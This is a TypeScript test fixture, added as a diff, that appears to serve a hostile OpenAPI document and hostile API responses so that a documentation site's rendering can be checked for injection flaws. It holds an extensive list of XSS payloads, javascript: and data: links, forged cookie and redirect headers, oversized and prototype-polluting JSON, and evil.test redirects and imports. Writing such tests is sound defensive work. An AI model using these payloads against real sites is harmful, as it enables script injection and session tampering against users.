@@ -1,0 +1,177 @@
+import type http from 'http';
+import type {Contribution, ToOrigin} from '../types';
+
+/** The script in every hostile value: it leaves a mark on the page if it runs. */
+const RUN = 'window.top.pwned=1;window.pwned=1';
+const HTML = `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><form action="/x"><button autofocus onfocus="${RUN}">x</button></form><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`;
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${RUN}"><script>${RUN}</script><rect width="10" height="10"/></svg>`;
+
+/** Responses of a hostile API that tries to act with the rights of the documentation site. */
+export const ANSWERS: {
+  [path: string]: {status?: number; headers: http.OutgoingHttpHeaders; body: string | Buffer};
+} = {
+  '/html': {headers: {'Content-Type': 'text/html'}, body: HTML},
+  '/svg': {headers: {'Content-Type': 'image/svg+xml'}, body: SVG},
+  '/script': {headers: {'Content-Type': 'text/javascript'}, body: RUN},
+  '/headers': {
+    headers: {
+      'Content-Type': 'text/plain',
+      'Set-Cookie': ['session=evil; Path=/', 'other=evil'],
+      'Clear-Site-Data': '"*"',
+      Refresh: '0; url=/elsewhere',
+      Location: '/elsewhere',
+    },
+    body: 'headers',
+  },
+  '/password': {
+    status: 401,
+    headers: {'Content-Type': 'text/plain', 'WWW-Authenticate': 'Basic realm="docs login"'},
+    body: 'who?',
+  },
+  '/links': {
+    headers: {'Content-Type': 'application/json', Location: 'javascript:alert(1)'},
+    body: JSON.stringify({
+      a: 'javascript:alert(1)',
+      b: 'data:text/html,<script>1</script>',
+      c: '<a href="javascript:alert(1)">x</a>',
+    }),
+  },
+  '/redirect': {status: 302, headers: {Location: 'javascript:alert(1)'}, body: ''},
+  '/json/line': {
+    headers: {'Content-Type': 'application/json'},
+    body: JSON.stringify('x'.repeat(5_000_000)),
+  },
+  '/json/deep': {
+    headers: {'Content-Type': 'application/json'},
+    body: `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
+  },
+  '/json/odd': {
+    headers: {'Content-Type': 'application/json'},
+    body: '{"__proto__":{"polluted":1},"n":1e400,"big":12345678901234567890,"a":1,"a":2,"s":"\\ud800"}',
+  },
+  '/json/broken': {
+    headers: {'Content-Type': 'application/json'},
+    body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
+  },
+};
+
+/**
+ * Descriptions that run code or load files if they are rendered as HTML, MDX or unchecked links.
+ */
+const DESCRIPTIONS = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  '<iframe src="javascript:parent.pwned=1"></iframe>',
+  '[x](javascript:window.pwned=1)',
+  '[x](JaVaScRiPt:window.pwned=1)',
+  '[x](java\nscript:window.pwned=1)',
+  '[x](&#106;avascript:window.pwned=1)',
+  '[x](data:text/html,<script>1</script>)',
+  '[x](vbscript:x)',
+  '![x](javascript:window.pwned=1)',
+  '<javascript:window.pwned=1>',
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href=" javascript:${RUN}">x</a>`,
+  `<a href="&#x6a;avascript:${RUN}">x</a>`,
+  '[x]: javascript:window.pwned=1\n\n[x]',
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<body onload=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  '<form action="javascript:window.pwned=1"><button>x</button></form>',
+  '<object data="javascript:window.pwned=1"></object>',
+  '<embed src="javascript:window.pwned=1">',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<style>body{display:none}</style>',
+  '<div style="position:fixed;inset:0">x</div>',
+  '{process.env.HOME}',
+  '{(() => { window.pwned = 1 })()}',
+  'import x from "https://evil.test/x.js"',
+  '<Foo bar={window.pwned=1} />',
+  '</script><script>window.pwned=1</script>',
+  '\u2028window.pwned=1',
+  '`</code><script>window.pwned=1</script>`',
+  '<!--><script>window.pwned=1</script>-->',
+  '<template><script>window.pwned=1</script></template>',
+];
+
+function toDocument(origin: string): string {
+  const operation = (route: string) => ({
+    get: {
+      operationId: route.slice(1).replaceAll('/', '-'),
+      summary: route,
+      responses: {200: {description: 'OK'}},
+    },
+  });
+  return JSON.stringify({
+    openapi: '3.1.0',
+    info: {
+      title: 'Hostile',
+      version: '1',
+      description: DESCRIPTIONS.join('\n\n'),
+      contact: {name: 'x', url: 'javascript:window.pwned=1'},
+      license: {name: 'x', url: 'javascript:window.pwned=1'},
+      termsOfService: 'javascript:window.pwned=1',
+    },
+    externalDocs: {url: 'javascript:window.pwned=1', description: DESCRIPTIONS[0]},
+    servers: [{url: origin, description: DESCRIPTIONS[1]}],
+    paths: {
+      ...Object.fromEntries(Object.keys(ANSWERS).map((route) => [route, operation(route)])),
+      '/described': {
+        get: {
+          summary: DESCRIPTIONS[0],
+          description: DESCRIPTIONS.join('\n\n'),
+          externalDocs: {url: 'javascript:window.pwned=1'},
+          parameters: DESCRIPTIONS.map((description, index) => ({
+            name: `p${index}`,
+            in: 'query',
+            description,
+            schema: {type: 'string', title: description, description, default: description},
+          })),
+          responses: {200: {description: DESCRIPTIONS.join('\n\n')}},
+        },
+      },
+      '/secret': {
+        post: {
+          summary: 'Secret',
+          security: [{key: [], bearer: []}],
+          responses: {200: {description: 'OK'}},
+        },
+      },
+      '/authorized': {
+        get: {
+          summary: 'Authorized',
+          security: [{oauth: []}],
+          responses: {200: {description: 'OK'}},
+        },
+      },
+    },
+    components: {
+      securitySchemes: {
+        key: {type: 'apiKey', in: 'query', name: 'api_key'},
+        bearer: {type: 'http', scheme: 'bearer'},
+        oauth: {
+          type: 'oauth2',
+          flows: {
+            authorizationCode: {
+              authorizationUrl: `${origin}/authorize`,
+              tokenUrl: `${origin}/token`,
+              scopes: {},
+            },
+          },
+        },
+      },
+    },
+  });
+}
+
+export default (toOrigin: ToOrigin): Contribution => ({
+  tabs: [{tab: 'Hostile', api: {source: 'hostile.json'}}],
+  files: {'hostile.json': toDocument(toOrigin('hostile'))},
+});
